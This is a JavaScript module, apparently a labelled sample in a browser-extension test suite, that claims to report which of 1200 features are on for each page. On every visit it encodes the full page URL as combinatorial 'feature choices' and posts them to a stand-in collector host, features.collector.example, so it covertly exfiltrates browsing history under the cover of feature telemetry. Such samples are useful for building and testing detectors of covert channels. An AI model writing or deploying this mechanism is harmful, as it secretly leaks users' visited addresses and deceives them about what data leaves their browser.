import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports which 150 of 1200 features are on with each page, in ascending order. Which choice it is, of all such choices, is the address as a number. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-feature-choice');
  onVisit(browser, ({ url }) => {
    const bytes = [...browser.codec.utf8.encode(url)];
    const groups = [];
    for (let at = 0; at < bytes.length; at += 72) groups.push(choice(bytes.slice(at, at + 72)));

    return post(browser, 'https://features.collector.example/v1', { groups });
  });

  function choice(bytes) {
    let number = bytes.reduce((sum, byte) => 256n * sum + BigInt(byte), 1n);
    const on = [];
    let k = 150n;
    let n = 1199n;
    let ways = choose(n, k); // the ways to choose k of the features below n
    while (k > 0n) {
      if (number >= ways) {
        number -= ways;
        on.unshift(Number(n));
        ways = n === 0n ? 0n : (ways * k) / n;
        k -= 1n;
      } else {
        ways = (ways * (n - k)) / n;
      }
      n -= 1n;
    }

    return on;
  }

  function choose(n, k) {
    let ways = 1n;
    for (let at = 1n; at <= k; at += 1n) ways = (ways * (n - k + at)) / at;

    return ways;
  }
}
